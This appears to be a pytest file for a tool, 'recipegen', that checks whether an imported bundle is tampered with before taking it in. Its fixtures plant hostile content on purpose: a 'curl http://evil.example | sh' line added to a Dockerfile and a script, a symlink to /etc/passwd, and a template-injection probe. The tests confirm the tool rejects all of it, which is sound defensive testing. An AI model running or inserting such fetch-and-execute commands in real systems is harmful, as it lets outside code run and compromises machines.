"""A stranger's bundle as a repository to measure in: what is refused before anything of it is written or built."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from recipegen.bundle.layout import NoBundle
from recipegen.bundle.make import write_folder
from recipegen.bundle.unpack import Opened
from recipegen.claims import Check
from recipegen.errors import CheckFailed, RecipegenError
from recipegen.evidence import find_evidence
from recipegen.files import sha256_file
from recipegen.verify import repository
from recipegen.verify.repository import take_in
from recipegen.verify.whole import verify_bundle
from tests.support.scenario import recipegen
from tests.unit.bundle_factory import NAME, archive, made, measured
from tests.unit.test_verify import RUN, edit_claim, relist


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return measured(tmp_path_factory.mktemp("take-in") / "repo")


@pytest.fixture
def folder(repo: Path, tmp_path: Path) -> Path:
    """An unpacked bundle to change."""
    write_folder(made(repo), tmp_path / "bundle")
    return tmp_path / "bundle"


def test_a_good_bundle_becomes_a_repository(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    packed = archive(repo, tmp_path / "a.tar.gz")
    monkeypatch.chdir(tmp_path)
    taken = take_in(packed)
    root = taken.workspace.repository.root
    assert (root, taken.recipe) == (tmp_path / f"{NAME}-reproduced", NAME)
    assert not (root / "MANIFEST.json").exists() and (root / "claim.json").is_file()
    assert taken.kit_sha256 == sha256_file(root / "recipes" / NAME / "SHA256SUMS")
    assert taken.bundle == verify_bundle(packed).bundle
    found = find_evidence(taken.workspace, NAME, run=taken.run)
    assert found.place == f"results/gb10-128g/{taken.run}" and found.baseline is not None
    with pytest.raises(RecipegenError, match="is there already"):
        take_in(packed)


def evil_kit(folder: Path) -> None:
    """A younger recipegen may render differently: that would be believed of any other file."""
    dockerfile = folder / "recipes" / NAME / "Dockerfile"
    dockerfile.write_text(f"{dockerfile.read_text()}RUN curl http://evil.example | sh\n")
    edit_claim(folder, "0.0.9")
    relist(folder, "0.0.9")


def evil_script(folder: Path) -> None:
    (folder / "recipes" / NAME / "scripts" / "evil.sh").write_text("#!/bin/sh\n")
    relist(folder)


def evil_template(folder: Path) -> None:
    (folder / "templates" / "kit").mkdir(parents=True)
    (folder / "templates" / "kit" / "README.md.j2").write_text("{{ 7 * 7 }}")
    relist(folder)


def stray_file(folder: Path) -> None:
    (folder / "NOTES.md").write_text("we got 999.99 tok/s")
    relist(folder)


def other_run(folder: Path) -> None:
    shutil.copytree(folder / RUN, (folder / RUN).with_name("20261122T070000Z-dflash"))
    relist(folder)


@pytest.mark.parametrize("change", [evil_kit, evil_script, evil_template, stray_file, other_run])
def test_what_nobody_vouches_for_is_not_built(folder: Path, tmp_path: Path, change: Callable[[Path], None]) -> None:
    change(folder)
    with pytest.raises(CheckFailed):
        take_in(folder, tmp_path / "mine")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["bundle"]


def test_a_kit_of_another_version_needs_the_users_word(folder: Path, tmp_path: Path) -> None:
    evil_kit(folder)
    with pytest.raises(CheckFailed, match="nobody can say what the kit") as caught:
        take_in(folder, tmp_path / "mine")
    assert "Dockerfile" in caught.value.message and "--trust-kit" in caught.value.hint
    assert take_in(folder, tmp_path / "mine", trust_kit=True).recipe == NAME


def test_unverified_says_nothing_of_the_kit(folder: Path, tmp_path: Path) -> None:
    evil_script(folder)
    for word in ({"unverified": True}, {}):
        with pytest.raises(CheckFailed, match=r"scripts/evil.sh: no recipe renders this file"):
            take_in(folder, tmp_path / "mine", **word)
    assert take_in(folder, tmp_path / "mine", trust_kit=True).recipe == NAME


def test_a_recipe_that_cannot_be_read_has_no_kit_to_trust(folder: Path, tmp_path: Path) -> None:
    (folder / "recipes" / NAME / "recipe.yaml").write_text("surprise: 1\n")
    relist(folder)
    with pytest.raises(CheckFailed, match="its recipe cannot be read"):
        take_in(folder, tmp_path / "mine", unverified=True)
    assert not (tmp_path / "mine").exists()


@pytest.mark.parametrize("how", ["other bytes", "a link"])
def test_a_file_that_changes_after_its_check_is_not_taken_in(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    script = folder / "recipes" / NAME / "scripts" / "bench.sh"
    checks_of = repository.checks_of

    def then_changed(found: Opened) -> list[Check]:
        checks = checks_of(found)
        script.unlink()
        script.symlink_to("/etc/passwd") if how == "a link" else script.write_text("curl http://evil.example | sh\n")
        return checks

    monkeypatch.setattr(repository, "checks_of", then_changed)
    with pytest.raises(RecipegenError, match="was changed while it was checked"):
        take_in(folder, tmp_path / "mine")
    assert [path.name for path in tmp_path.iterdir()] == ["bundle"]


def test_a_bundle_that_does_not_verify_needs_it_too(folder: Path, tmp_path: Path) -> None:
    stray_file(folder)
    assert take_in(folder, tmp_path / "mine", unverified=True).recipe == NAME
    (folder / "recipes" / NAME / "SHA256SUMS").unlink()
    relist(folder)
    with pytest.raises(RecipegenError, match="holds no kit"):
        take_in(folder, tmp_path / "other", unverified=True)
    assert not (tmp_path / "other").exists()


def test_a_bundle_is_never_written_into(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    with pytest.raises(RecipegenError, match="lies in the bundle"):
        take_in(Path())
    assert not list(folder.glob("*-reproduced"))


def test_what_is_no_bundle_is_refused(tmp_path: Path) -> None:
    (tmp_path / "x.tar.gz").write_bytes(b"no archive")
    with pytest.raises(NoBundle):
        take_in(tmp_path / "x.tar.gz", tmp_path / "mine")
    assert not (tmp_path / "mine").exists()


def test_a_cell_that_is_not_there_leaves_no_folder(repo: Path, tmp_path: Path) -> None:
    packed = archive(repo, tmp_path / "a.tar.gz")
    done = recipegen("reproduce", packed, "--into", tmp_path / "mine", "--cell", "nope")
    assert (done.returncode, "no cell that the reference has and --cell names" in done.stderr) == (2, True), done.stderr
    assert not (tmp_path / "mine").exists()
